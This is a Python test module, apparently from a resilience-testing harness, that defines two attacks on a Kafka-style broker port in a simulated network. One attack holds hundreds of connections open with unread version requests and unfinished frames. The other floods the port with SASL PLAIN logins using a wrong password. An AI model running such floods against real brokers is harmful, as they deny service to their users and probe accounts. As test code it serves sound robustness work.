"""Who mean harm at the broker's port of bora."""
import contextlib
import re
import socket
import struct

from attacked import ATTACKER, attack, never
from accounts import again_and_again

WHO = "anybody at the broker's port"
PLAIN_HANDSHAKE = struct.pack('>hhih', 17, 1, 1, -1) + struct.pack('>h', 5) + b'PLAIN'
PASSWORD = b'\0alice\0' + b'x' * 40
AUTHENTICATE = struct.pack('>hhih', 36, 0, 2, -1) + struct.pack('>i', len(PASSWORD)) + PASSWORD


def port_of(net):
    with open(net.of('bora')['data_dir'] + '/../config/config.ini', encoding='utf-8') as f:
        return int(re.search(r'^bps-listen-endpoint = .*:(\d+)$', f.read(), re.MULTILINE)[1])


def frame(request):
    return struct.pack('>i', len(request)) + request


@attack(WHO)
def unread_versions(net, _):
    """Requests for versions, one after another, whose answers nobody reads, and requests that do not end."""
    port = port_of(net)
    with contextlib.ExitStack() as stack:
        for number in range(600):
            with contextlib.suppress(OSError):
                at = stack.enter_context(net.connect(ATTACKER % (1 + number % 20), port))
                at.setblocking(False)
                if number % 2:
                    at.sendall(frame(struct.pack('>hhih', 18, 0, 1, -1)) * 2000)
                else:
                    at.sendall(struct.pack('>i', 60000) + b' ' * 50000)
        yield never


@attack(WHO)
def logins(net, _):
    """Passwords that are wrong, as fast as they are answered, from a connection each."""
    port = port_of(net)

    def log_in(number):
        with contextlib.suppress(OSError, socket.timeout):
            with net.connect(ATTACKER % (1 + number % 4), port) as at:
                at.settimeout(1)
                at.sendall(frame(PLAIN_HANDSHAKE) + frame(AUTHENTICATE))
                while at.recv(4096):
                    pass
    with contextlib.ExitStack() as stack:
        for _ in range(8):
            stack.enter_context(again_and_again(log_in))
        yield never


ATTACKS = [unread_versions, logins]
